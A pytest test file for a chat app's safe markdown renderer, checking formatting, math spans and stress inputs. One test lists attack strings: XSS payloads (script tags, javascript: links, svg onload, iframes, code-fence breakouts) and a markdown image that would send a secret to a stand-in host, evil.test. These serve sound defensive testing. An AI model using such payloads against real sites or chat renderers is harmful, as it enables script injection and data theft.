import re

import pytest

from apps.chat.safe_markdown import html

TAGS = ("p", "h4", "ul", "li", "pre", "code", "strong")
SHOWN = {f"<{tag}>" for tag in TAGS} | {f"</{tag}>" for tag in TAGS}


def test_what_is_shown() -> None:
    text = "# Tea\n\nIt is **hot** and *green*,\nsays `a < b`.\n\n- one\n- two\n\n3. three\n\n```py\nx = '<b>'\n```\nend"
    assert html(text) == (
        "<h4>Tea</h4><p>It is <strong>hot</strong> and <em>green</em>,<br>says <code>a &lt; b</code>.</p>"
        "<ul><li>one</li><li>two</li></ul><ol start='3'><li>three</li></ol>"
        '<pre><code><span class="hl-n">x</span> <span class="hl-o">=</span> '
        """<span class="hl-s1">'&lt;b&gt;'</span></code></pre><p>end</p>"""
    )
    assert html("2 * 3 * 4 = 24 and snake_case_name") == "<p>2 * 3 * 4 = 24 and snake_case_name</p>"


def test_formulas_stand_in_every_place_and_not_in_code() -> None:
    shown = html("So $a*b*c$ and **it is $x$**:\n\\[\nx < y\n\\]\n- \\(k\\)\n\n`$z$`\n```\n$$w$$\n```")
    assert (
        "<p>So <span class='math'>\\(a*b*c\\)</span> and <strong>it is <span class='math'>\\(x\\)</span></strong>:</p>" in shown
        and "<em>" not in shown
    )
    assert "<p><span class='math display'>\\[x &lt; y\\]</span></p>" in shown
    assert "<li><span class='math'>\\(k\\)</span></li>" in shown and "<code>$z$</code>" in shown and shown.count("math") == 4
    assert html("**a\x00b** $c$") == "<p><strong>ab</strong> <span class='math'>\\(c\\)</span></p>"
    assert html("It costs $5 and $6, **not $7**") == "<p>It costs $5 and $6, <strong>not $7</strong></p>"


@pytest.mark.parametrize(
    "attack",
    [
        "![x](https://evil.test/?q=secret)",
        "[click](javascript:alert(1))",
        "<img src=https://evil.test/a>",
        "<script>alert(1)</script>",
        "**<svg onload=alert(1)>**",
        "`</code><script>`",
        "```\n</pre><script>alert(1)</script>",
        "# <iframe src=x>",
        "- <a href=x>",
        "https://evil.test/?q=secret",
    ],
)
def test_no_text_asks_another_server_or_runs(attack: str) -> None:
    """An answer may hold an attacker's words: an image in it would send what its address says."""
    assert set(re.findall(r"<[^>]*>", html(attack))) <= SHOWN


@pytest.mark.parametrize(
    "text",
    [
        "",
        "\n\n",
        "```",
        "*" * 5000,
        "`" * 5000,
        "**a" * 3000,
        "- \n" * 100,
        "#" * 9,
        "\\(" * 50_000,
        "$$\n" * 5000,
        "$x " * 50_000,
    ],
)
def test_strange_texts_end(text: str) -> None:
    assert "<script" not in html(text)
